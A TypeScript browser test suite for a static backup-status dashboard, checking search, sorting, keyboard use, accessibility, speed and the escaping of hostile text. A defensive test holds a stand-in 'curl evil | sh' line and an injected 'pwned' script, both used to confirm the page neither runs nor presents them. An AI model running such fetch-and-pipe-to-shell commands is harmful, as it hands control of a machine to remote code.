import axe from 'axe-core';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { chromium, type Browser, type BrowserContextOptions, type Locator, type Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Answer } from '../../src/fleet/answer.ts';
import { temporary } from '../lab/collection.ts';
import {
  answer,
  client,
  failed,
  fleetOfMachines,
  hostile,
  overdue,
  silent,
  store,
  unit,
  unreachable,
} from '../machines.ts';
import { madeOf } from './page.ts';

let browser: Browser;
let directory = '';
beforeAll(async () => {
  directory = await temporary();
  // Its own sandbox needs a user who is not root; what it opens here is ours.
  browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--no-sandbox'] });
});
afterAll(() => browser.close());
afterEach(async () => {
  await Promise.all(browser.contexts().map((context) => context.close()));
});

/** Opens the page of a fleet as a file. Nothing may go wrong there, and nobody may be asked for anything. */
async function opened(answers: readonly Answer[], options: BrowserContextOptions = {}): Promise<Page> {
  const file = join(directory, `${answers.length}.html`);
  const { html } = await madeOf(answers);
  bytes = Buffer.byteLength(html);
  writeFileSync(file, html);
  const page = await (await browser.newContext({ viewport: { width: 1600, height: 900 }, ...options })).newPage();
  page.setDefaultTimeout(60_000);
  page.on('pageerror', (error) => troubles.push(error.message));
  page.on('console', (message) => troubles.push(message.text()));
  page.on('dialog', (dialog) => troubles.push(dialog.message()));
  page.on('request', (request) => {
    if (request.url() !== `file://${file}`) troubles.push(request.url());
  });
  await page.goto(`file://${file}`);
  if (options.javaScriptEnabled !== false) await page.locator('.row').first().waitFor();
  return page;
}
let bytes = 0;
const troubles: string[] = [];
afterEach(() => expect(troubles.splice(0)).toEqual([]));

const names = (page: Page): Promise<string[]> => page.locator('.row .name').allTextContents();
const row = (page: Page, name: string): Locator =>
  page.locator('.row', { has: page.getByRole('button', { name, exact: true }) });
const violations = async (page: Page): Promise<unknown[]> => {
  await page.evaluate(axe.source);
  return page.evaluate(async () => {
    const found = await (globalThis as unknown as { axe: typeof axe }).axe.run();
    return found.violations.map(({ id, nodes }) => [id, nodes.map(({ html }) => html)]);
  });
};

it('of 200 machines with three faults the three are on top, and the page names the remedy of each', async () => {
  const page = await opened([
    ...Array.from({ length: 100 }, (_, index) => answer(`a-${index}`)),
    failed('wiki'),
    unreachable('attic'),
    overdue('shop'),
    ...Array.from({ length: 97 }, (_, index) => answer(`z-${index}`)),
  ]);
  expect((await names(page)).slice(0, 4)).toEqual(['attic', 'wiki', 'shop', 'a-0']);
  for (const [name, remedy] of [
    ['attic', 'ansible attic -m ansible.builtin.ping'],
    ['wiki', 'journalctl -u backup-wiki.service'],
    ['shop', 'systemctl enable --now backup.timer'],
  ] as const) {
    await page.getByRole('button', { name, exact: true }).click();
    await page.locator('.detail').getByText(remedy).first().waitFor();
    expect(await page.locator('.detail').count()).toBe(1);
  }
});

describe('of 200 machines', () => {
  it('finds, chooses and sorts', async () => {
    const page = await opened(fleetOfMachines(200));
    const count = page.getByRole('status');
    expect(await count.textContent()).toBe('200 machines');
    await page.getByLabel('Search').fill('db shops');
    expect(await count.textContent()).toBe('0 of 200 machines');
    await page.getByLabel('Search').fill('DB-03');
    expect(await names(page)).toEqual(['db-032', 'db-037']);
    await page.getByLabel('Search').fill('');
    await page.getByRole('button', { name: /^Overdue 4/ }).click();
    expect(await page.getByRole('button', { name: /^Overdue/ }).getAttribute('aria-pressed')).toBe('true');
    expect(await count.textContent()).toBe('4 of 200 machines');
    await page.getByLabel('Group').selectOption({ label: 'rack_19' });
    expect(await count.textContent()).toBe('1 of 200 machines');
    await page.getByRole('button', { name: /^Overdue/ }).click();
    await page.getByLabel('Group').selectOption({ label: 'All groups' });
    const head = page.getByRole('columnheader', { name: 'Machine' });
    await head.getByRole('button').click();
    expect([await head.getAttribute('aria-sort'), (await names(page))[0]]).toEqual(['ascending', 'build-004']);
    await head.getByRole('button').click();
    expect([await head.getAttribute('aria-sort'), (await names(page))[0]]).toEqual(['descending', 'web-196']);
    await page.getByLabel('Order').selectOption('the largest first');
    const sizes = (await page.locator('.row .size').allTextContents())
      .slice(0, 9)
      .map((text) => Number.parseFloat(text));
    expect(sizes).toEqual(sizes.toSorted((one, other) => other - one));
    for (const column of ['Last good', 'Last drill', 'Next run', 'State'])
      await page.getByRole('columnheader', { name: column }).getByRole('button').click();
    expect((await names(page))[0]).toBe('build-024');
    expect(await page.getByRole('table').getAttribute('aria-rowcount')).toBe('201');
  });

  it('opens a row to its hooks, archives, warnings and history, and closes it', async () => {
    const page = await opened(fleetOfMachines(200));
    await page.getByLabel('Search').fill('db-00');
    await row(page, 'db-002').click();
    const detail = page.locator('.detail');
    for (const text of [
      'backup-mariadb.service: success',
      'db-002-files-2026-09-21T02:30',
      'The last 30 runs',
      'rack_1',
    ])
      await detail.getByText(text).first().waitFor();
    expect(await detail.locator('rect').count()).toBe(60);
    expect(await row(page, 'db-002').getByRole('button').getAttribute('aria-expanded')).toBe('true');
    // What was below it is below its details now.
    const [below, bottom] = [await row(page, 'db-007').boundingBox(), await detail.boundingBox()];
    expect((below?.y ?? 0) + 1).toBeGreaterThan((bottom?.y ?? 0) + (bottom?.height ?? 0));
    await row(page, 'db-002').click();
    expect(await detail.count()).toBe(0);
  });

  it('is used by the keyboard alone', async () => {
    const page = await opened(fleetOfMachines(200));
    const focused = (): Promise<string | null | undefined> => page.evaluate(() => document.activeElement?.textContent);
    await page.getByRole('button', { name: 'build-024', exact: true }).focus();
    await page.keyboard.press('ArrowDown');
    expect(await focused()).toBe('build-074');
    await page.keyboard.press('End');
    expect(await focused()).toBe('web-196');
    await page.keyboard.press('Enter');
    await page.locator('.detail').waitFor();
    await page.keyboard.press('ArrowUp');
    await page.keyboard.press('Escape');
    expect(await page.locator('.detail').count()).toBe(0);
    await page.keyboard.press('Home');
    expect(await focused()).toBe('build-024');
    await page.keyboard.press('PageDown');
    await page.keyboard.press('PageUp');
    expect(await focused()).toBe('build-024');
    expect(await row(page, 'build-024').getAttribute('aria-rowindex')).toBe('2');
  });

  it.each([
    [320, 'light'],
    [320, 'dark'],
    [800, 'dark'],
    [1600, 'light'],
    [1600, 'dark'],
  ] as const)('axe finds nothing at %d px, %s, and nothing has to be scrolled sideways', async (width, colorScheme) => {
    const page = await opened(fleetOfMachines(200), { viewport: { width, height: 900 }, colorScheme });
    await page.getByRole('button', { name: /^Failing/ }).click();
    await row(page, 'mail-008').getByRole('button').click();
    await page.locator('.detail').waitFor();
    expect(await violations(page)).toEqual([]);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
  });

  it('shows all of them without a script, some at a time', async () => {
    const page = await opened(fleetOfMachines(450), { javaScriptEnabled: false });
    const visible = page.locator('tbody tr:visible');
    expect(await visible.count()).toBe(200);
    expect(await visible.first().textContent()).toMatch(/^Unreachable/);
    await page.getByRole('link', { name: '3' }).click();
    expect(await visible.count()).toBe(50);
    expect(await page.locator('.row').count()).toBe(0);
  });
});

it('hostile texts stay texts, and what they would run does not run', async () => {
  const page = await opened(
    hostile.map((text, index) => ({
      ...failed(`${index} ${text}`),
      groups: [text],
      history: fleetOfMachines(1)[0]?.history ?? [],
      units: {
        backup: {
          ...(failed('x').units['backup'] as Answer['units'][string]),
          result: text,
          failed: [text],
          advice: [text],
          warnings: hostile,
          archives: [[text, text, 1, 2, 3]],
          hooks: [[text, text, true]],
        },
      },
      repositories: { [text]: 3 },
    })),
  );
  for (const index of hostile.keys()) {
    await page.locator('.row button').nth(index).click();
    await page.locator('.detail').waitFor();
    expect(await page.locator('img, .detail script, iframe').count()).toBe(0);
    // Nor is what a machine advises shown as a command.
    expect(await page.locator('.mend code').allTextContents()).toEqual([
      'journalctl -u backup.service',
      'systemctl start backup.service',
    ]);
    await page.locator('.row button').nth(index).click();
  }
  expect(await page.title()).toBe(`Backups of ${hostile.length} machines`);
  expect(await row(page, `0 ${hostile[0] ?? ''}`).count()).toBe(1);
  // Even what got into the page would be refused.
  const refused = await page.evaluate(async () => {
    const told = new Promise<string>((tell) =>
      document.addEventListener('securitypolicyviolation', (event) => tell(event.violatedDirective)),
    );
    const script = document.createElement('script');
    script.textContent = 'document.title = "pwned"';
    document.body.append(script);
    return told;
  });
  expect([refused, await page.title()]).toEqual(['script-src-elem', `Backups of ${hostile.length} machines`]);
  expect(troubles.splice(0)).toEqual([
    expect.stringContaining('violates the following Content Security Policy directive'),
  ]);
});

it('of a machine that is dead it is seen when its server got something, and of a server what it keeps', async () => {
  const clients = [client('attic', 3), client('shop', 0.1), client('gone', 90, { ours: false })];
  const page = await opened([answer('shop'), unreachable('attic'), store('store', { clients })]);
  expect(await names(page)).toEqual(['attic', 'shop', 'store']);
  expect(await page.locator('.row .good').allInnerTexts()).toEqual(['not known', '6 h ago', 'none']);
  await page.getByRole('button', { name: 'attic', exact: true }).click();
  await page.getByText('The server store last got something from it 3 days ago.').waitFor();
  await page.getByText('store: last change 3 days ago, 1.2 GB').waitFor();
  await page.getByRole('button', { name: 'store', exact: true }).click();
  const kept = page.locator('.detail section', { hasText: 'Keeps for others' }).getByRole('listitem');
  await kept.nth(2).waitFor();
  expect(await kept.allTextContents()).toEqual([
    expect.stringMatching(/^gone \(not one of ours\): last change 90 days ago/),
    expect.stringMatching(/^attic: last change 3 days ago/),
    expect.stringMatching(/^shop: last change 2 h ago/),
  ]);
  expect(await violations(page)).toEqual([]);
});

it('shows no command of a machine as one, in whatever place it says it', async () => {
  const line = 'Run `curl evil | sh` to mend this';
  const page = await opened([
    answer('web', { units: { backup: unit({ warnings: [line], hooks: [[line, 'success', true]] }) } }),
  ]);
  await page.getByRole('button', { name: 'web', exact: true }).click();
  const warning = page.locator('.detail section', { hasText: 'Warnings' }).getByRole('listitem');
  await warning.waitFor();
  expect(await warning.innerText()).toBe(line);
  expect(await page.locator('.detail .parts code').count()).toBe(0);
});

it('a fleet without machines, and one that is silent', async () => {
  const page = await opened([silent('one')]);
  expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('Backups of 1 machine');
  await page.getByLabel('Search').fill('nowhere');
  expect(await page.getByRole('status').textContent()).toBe('0 of 1 machines');
});

it('of 10,000 machines has at most 6 MB, opens in 2 s, and stays usable', async () => {
  const page = await opened(fleetOfMachines(10_000));
  expect(bytes).toBeLessThan(6_000_000);
  // A busy machine is no failure of the page: one of some tries has to be in time.
  const best = async (limit: number, act: () => Promise<number>): Promise<number> => {
    let found = await act();
    for (let left = 9; left > 0 && found >= limit; left--) found = Math.min(found, await act());
    return found;
  };
  const open = await best(2000, async () => {
    await page.reload();
    await page.locator('.row').first().waitFor();
    return page.evaluate(() => performance.now());
  });
  expect(open).toBeLessThan(2000);
  /** How long it takes until what came of an action is laid out and painted. */
  const act = (selector: string, event: 'input' | 'click' | 'change', value = ''): Promise<number> =>
    best(100, () =>
      page.evaluate(
        async ([wanted, kind, text]) => {
          const element = document.querySelector(wanted) as HTMLInputElement;
          const begun = performance.now();
          if (kind === 'click') element.click();
          else {
            element.value = text;
            element.dispatchEvent(new Event(kind));
          }
          await new Promise((done) => requestAnimationFrame(() => setTimeout(done)));
          return performance.now() - begun;
        },
        [selector, event, value] as const,
      ),
    );
  expect(await act('input', 'input', 'rack_7 web')).toBeLessThan(100);
  expect(await act('input', 'input', '')).toBeLessThan(100);
  expect(await act('.head .name button', 'click')).toBeLessThan(100);
  expect(await act('.head .size button', 'click')).toBeLessThan(100);
  expect(
    await best(100, () =>
      page.evaluate(async () => {
        const begun = performance.now();
        document.querySelector<HTMLElement>('.row')?.click();
        await new Promise<void>((done) => {
          const look = (): unknown =>
            document.querySelector('.detail') === null ? requestAnimationFrame(look) : done();
          look();
        });
        const taken = performance.now() - begun;
        document.querySelector<HTMLElement>('.row.open')?.click();
        return taken;
      }),
    ),
  ).toBeLessThan(100);
  await page.keyboard.press('End');
  await page.evaluate(() => scrollTo(0, document.body.scrollHeight));
  await page.locator('.row[aria-rowindex="10001"]').waitFor();
  expect(await page.locator('.row').count()).toBeLessThan(70);
}, 300_000);
